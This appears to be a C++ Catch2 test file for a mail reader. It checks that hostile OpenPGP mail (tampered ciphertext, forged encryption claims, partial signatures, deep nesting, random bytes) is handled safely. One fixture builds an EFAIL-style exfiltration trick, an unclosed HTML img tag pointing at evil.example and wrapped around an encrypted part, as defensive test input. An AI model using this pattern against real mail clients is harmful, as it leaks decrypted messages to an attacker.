// "Hostile mail: what must come out", as far as the structure of the mail decides.
#include "../openpgp/gnupg_world.hpp"
#include "core/text.hpp"
#include "letters.hpp"

#include <catch2/catch.hpp>
#include <fmt/core.h>

#include <chrono>
#include <random>

using namespace cvdesk;
using namespace cvdesk::testing;
using openpgp::Decryption;
using openpgp::SignatureState;

namespace {

const std::string secret = "The pump's password is 1234.\n";

bool shows(const Read& read, std::string_view text) {
  return read.inspection.text.find(text) != std::string::npos;
}
const reader::Protection& protection(const Read& read) {
  return read.inspection.protection;
}
std::vector<std::string> everybody() {
  const World& world = World::get();
  return {world.certificate(world.reporter), world.certificate(world.stranger)};
}

} // namespace

TEST_CASE("Cleartext that failed its integrity check is never shown") {
  const World& world = World::get();
  std::string binary = testing::gpg(world.others, fmt::format("-e -r {}", world.desk), plain_part(secret));
  binary[binary.size() - 5] = static_cast<char>(binary[binary.size() - 5] ^ 1);
  const std::string armour = testing::gpg(world.others, "--enarmor", binary);
  std::string message;
  for (const auto line : split(armour, '\n')) {
    if (line.starts_with("Comment:")) continue;
    if (line.find("ARMORED FILE") != std::string_view::npos)
      message +=
          line.starts_with("-----BEGIN") ? "-----BEGIN PGP MESSAGE-----\n" : "-----END PGP MESSAGE-----\n";
    else
      message += std::string(line) + "\n";
  }
  for (const auto& body : {encrypted_part(message), plain_part(message)}) {
    const Read read = read_mail(header() + body);
    CHECK(protection(read).encrypted);
    CHECK(protection(read).decryption == Decryption::refused);
    CHECK(protection(read).cause);
    CHECK_FALSE(shows(read, "1234"));
    CHECK(read.inspection.facts.kind == report::Kind::undecryptable);
  }
}

TEST_CASE("What only claims to be encrypted is shown as not encrypted") {
  const World& world = World::get();
  const Read read = read_mail(
      header() + encrypted_part(testing::gpg(world.others, "-a -s -u " + world.reporter, plain_part(secret))),
      everybody());
  CHECK(shows(read, "1234"));
  CHECK_FALSE(protection(read).encrypted);
  CHECK(protection(read).decryption == Decryption::none);
  CHECK(protection(read).cause.value_or("").find("not encrypted") != std::string::npos);
  CHECK(protection(read).signature == SignatureState::good);
  CHECK(read.inspection.facts.kind != report::Kind::undecryptable);
}

TEST_CASE("Text beside a signed part is not signed") {
  const World& world = World::get();
  const std::string good = signed_part(plain_part(secret), world.reporter);
  const Read footer = read_mail(
      header() + multipart("multipart/mixed", {good, plain_part("Pay to another account.\n")}), everybody());
  CHECK(shows(footer, "1234"));
  CHECK(shows(footer, "another account"));
  CHECK(protection(footer).partial);
  CHECK(protection(footer).signature != SignatureState::good);
  CHECK_FALSE(protection(footer).signer_is_sender);

  // A third part inside multipart/signed, one that is not closed: then nothing of it is signed.
  const std::string entity = plain_part(secret);
  const std::string signature =
      "Content-Type: application/pgp-signature\r\n\r\n" + crlf(world.detached(entity, world.reporter));
  const std::string type = "multipart/signed; protocol=\"application/pgp-signature\"";
  CHECK(protection(
            read_mail(header() + multipart(type, {entity, signature, plain_part("more\n")}), everybody()))
            .signature == SignatureState::none);
  CHECK(
      protection(read_mail(header() + multipart(type, {entity, signature}, false), everybody())).signature ==
      SignatureState::none);
}

TEST_CASE("Signatures of two people side by side are good for neither") {
  const World& world = World::get();
  const Read read =
      read_mail(header() + multipart("multipart/mixed", {signed_part(plain_part("one\n"), world.reporter),
                                                         signed_part(plain_part("two\n"), world.stranger)}),
                everybody());
  CHECK(protection(read).partial);
  CHECK(protection(read).signature != SignatureState::good);
  CHECK_FALSE(protection(read).signer_is_sender);
}

TEST_CASE("The outermost signature decides") {
  const World& world = World::get();
  const std::string inner = encrypted_part(world.sealed(plain_part(secret), world.reporter));
  const Read encrypted_in_signed = read_mail(header() + signed_part(inner, world.stranger), everybody());
  CHECK(shows(encrypted_in_signed, "1234"));
  CHECK(protection(encrypted_in_signed).decryption == Decryption::ok);
  CHECK(protection(encrypted_in_signed).signature == SignatureState::good);
  CHECK(protection(encrypted_in_signed).signer == world.stranger);
  CHECK_FALSE(protection(encrypted_in_signed).signer_is_sender);
  const Read thrice =
      read_mail(header() + encrypted_part(world.sealed(signed_part(inner, world.stranger))), everybody());
  CHECK(shows(thrice, "1234"));
  CHECK(protection(thrice).signer == world.stranger);
  CHECK(thrice.rounds == 2); // signed text is read on before its signature is checked
}

TEST_CASE("Ciphertext wrapped in HTML or hidden in related parts never joins the text around it") {
  const World& world = World::get();
  const std::string html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
  const Read efail = read_mail(
      header() + multipart("multipart/mixed", {html, encrypted_part(world.sealed(plain_part(secret))),
                                               "Content-Type: text/html\r\n\r\n\">"}));
  CHECK(shows(efail, "1234"));
  CHECK(protection(efail).partial);
  const auto at = efail.inspection.text.find("1234");
  CHECK(efail.inspection.text.rfind("[encrypted]", at) != std::string::npos);
  const Read covert = read_mail(
      header() + multipart("multipart/related", {plain_part("Can you answer this?\n"),
                                                 encrypted_part(world.sealed(plain_part(secret)))}));
  CHECK(protection(covert).partial);
  CHECK(shows(covert, "[not encrypted]"));
}

TEST_CASE("Protection nested without end is followed to a depth of four") {
  const World& world = World::get();
  std::string entity = plain_part(secret);
  for (int i = 0; i < 6; ++i)
    entity = encrypted_part(world.sealed(entity));
  const Read read = read_mail(header() + entity);
  CHECK_FALSE(shows(read, "1234"));
  CHECK(read.openings.size() == 4);
  CHECK(protection(read).cause.value_or("").find("too deeply") != std::string::npos);
}

TEST_CASE("Of a hundred blocks sixteen are opened") {
  const World& world = World::get();
  const std::string block = world.sealed("one\n");
  std::vector<std::string> parts;
  for (int i = 0; i < 100; ++i)
    parts.push_back(plain_part(block));
  const Read read = read_mail(header() + multipart("multipart/mixed", parts));
  CHECK(read.openings.size() == 16);
  CHECK(protection(read).cause);
}

TEST_CASE("A mail beyond the limits is too big, and deep nesting does no harm") {
  std::string deep = plain_part("deep\n");
  for (int i = 0; i < 40; ++i)
    deep = multipart("multipart/mixed", {deep});
  const std::string raw = header() + deep;
  reader::Task task;
  task.raw = raw;
  const auto reading = reader::inspect(task);
  REQUIRE_FALSE(reading);
  CHECK(reading.error().kind == ErrorKind::too_big);

  const World& world = World::get();
  const Read inside = read_mail(header() + encrypted_part(world.sealed(deep)));
  CHECK(protection(inside).decryption == Decryption::ok);
  CHECK_FALSE(inside.inspection.defects.empty());
}

TEST_CASE("Any bytes are read without harm") {
  const World& world = World::get();
  const std::string honest =
      header() + multipart("multipart/mixed",
                           {encrypted_part(world.sealed(plain_part(secret))),
                            signed_part(plain_part("x\n"), world.reporter), plain_part(world.sealed(secret)),
                            "Content-Type: message/rfc822\r\n\r\nSubject: x\r\n\r\nhello\r\n"});
  std::mt19937 random(3);
  for (int round = 0; round < 300; ++round) {
    std::string changed = honest;
    for (int i = 0; i < 10; ++i)
      changed[random() % changed.size()] = static_cast<char>(random());
    reader::Task task;
    task.raw = changed;
    const auto reading = reader::inspect(task);
    if (reading) {
      CHECK(reading->pending.size() <= 16);
      CHECK(is_valid_utf8(reading->inspection.text));
      const auto again = reader::inspection_from_json(reader::to_json(reading->inspection));
      CHECK(again.has_value());
    }
  }
}

TEST_CASE("Hostile structures are read in bounded time") {
  std::string blocks;
  while (blocks.size() < 1u << 20)
    blocks += "-----BEGIN PGP MESSAGE-----\n\n" + std::string(64, 'A') + "\n-----END PGP MESSAGE-----\n";
  std::string alternatives = plain_part(std::string(100000, 'x'));
  for (int i = 0; i < 28; ++i)
    alternatives = multipart("multipart/alternative", {alternatives, plain_part("a\n")});
  for (const auto& body : {plain_part(blocks), alternatives}) {
    const std::string raw = header() + body;
    reader::Task task;
    task.raw = raw;
    const auto begin = std::chrono::steady_clock::now();
    CHECK(reader::inspect(task));
    CHECK(std::chrono::steady_clock::now() - begin < std::chrono::seconds(5));
  }
}
